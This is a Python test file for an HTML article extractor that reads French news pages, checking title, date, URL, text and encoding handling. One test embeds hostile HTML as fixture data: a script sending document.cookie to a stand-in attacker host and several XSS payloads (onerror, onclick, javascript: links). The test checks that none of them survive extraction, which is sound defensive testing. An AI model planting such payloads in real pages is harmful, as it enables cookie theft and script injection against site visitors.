"""HTML pages through trafilatura."""
from __future__ import annotations

import datetime as dt

from dateline.model import Article, Rejection


def _page(body: str, head: str = "") -> str:
    return f"<!DOCTYPE html><html lang='fr'><head><meta charset='utf-8'>{head}</head><body>{body}</body></html>"


def test_main_text_title_date_and_url(write, read_one, french):
    head = ("<title>Sommet à Berlin | Le Journal</title>"
            "<meta property='og:title' content='Sommet à Berlin'>"
            "<meta property='article:published_time' content='2025-03-04T09:00:00+01:00'>"
            "<link rel='canonical' href='https://example.org/sommet-berlin'>")
    body = ("<nav><a href='/'>Accueil</a> <a href='/monde'>Monde</a></nav>"
            f"<article><h1>Sommet à Berlin</h1><p>{french}</p>"
            "<p>Une seconde rencontre est prévue au printemps à Paris, selon le Quai d'Orsay.</p>"
            "</article><footer>Tous droits réservés</footer>")
    article = read_one(write("sommet.html", _page(body, head)))
    assert isinstance(article, Article), article
    assert (article.id, article.date) == ("sommet", dt.date(2025, 3, 4))
    assert article.title == "Sommet à Berlin"
    assert article.url == "https://example.org/sommet-berlin"
    assert article.text.startswith(french + "\n\n")  # the <h1> is the title, not the text
    assert "Accueil" not in article.text and "droits réservés" not in article.text


def test_hostile_html_is_read_as_inert_text(write, read_one, french):
    head = ("<meta name='date' content='2025-05-05'>"
            "<script>fetch('http://evil.example/?c=' + document.cookie)</script>"
            "<style>body { background: url(javascript:alert('style-marker')) }</style>")
    body = ("<iframe src='http://evil.example/frame'>iframe-marker</iframe><article>"
            f"<p onclick=\"alert('attr-marker')\">{french}"
            "<script>alert('script-marker')</script></p>"
            "<p>Le gouvernement a annoncé une enquête <img src=x onerror=\"alert('img-marker')\">"
            "sur ces incidents. <a href=\"javascript:alert('link-marker')\">Lire aussi</a></p>"
            "<noscript>noscript-marker</noscript></article>")
    article = read_one(write("piege.html", _page(body, head)))
    assert isinstance(article, Article), article
    assert french in article.text
    for marker in ("script-marker", "style-marker", "attr-marker", "img-marker", "iframe-marker",
                   "evil.example", "alert(", "<"):
        assert marker not in article.text


def test_page_without_date_takes_the_given_date_or_is_rejected(write, read_one, french):
    path = write("sansdate.html", _page(f"<article><p>{french}</p></article>"))
    assert read_one(path, date=dt.date(2024, 1, 2)).date == dt.date(2024, 1, 2)
    assert read_one(path) == Rejection(str(path), "no publication date: give --date YYYY-MM-DD")


def test_a_date_quoted_in_the_text_is_not_the_publication_date(write, read_one, french):
    body = f"<article><p>Le 14 mars 2021, le traité avait été signé. {french}</p></article>"
    assert read_one(write("cite.html", _page(body))).reason.startswith("no publication date")


def test_page_without_text(write, read_one):
    page = _page("<script>document.write('rien')</script><div> </div>",
                 "<meta name='date' content='2025-05-05'>")
    assert read_one(write("vide.html", page)).reason == "no article text found in the HTML page"


def test_cp1252_page(write, read_one, french):
    page = _page(f"<article><p>{french} « Déjà l’été. »</p></article>",
                 "<meta name='date' content='2025-05-05'>")
    article = read_one(write("ancien.htm", page.encode("cp1252")))
    assert article.text.endswith("« Déjà l’été. »")
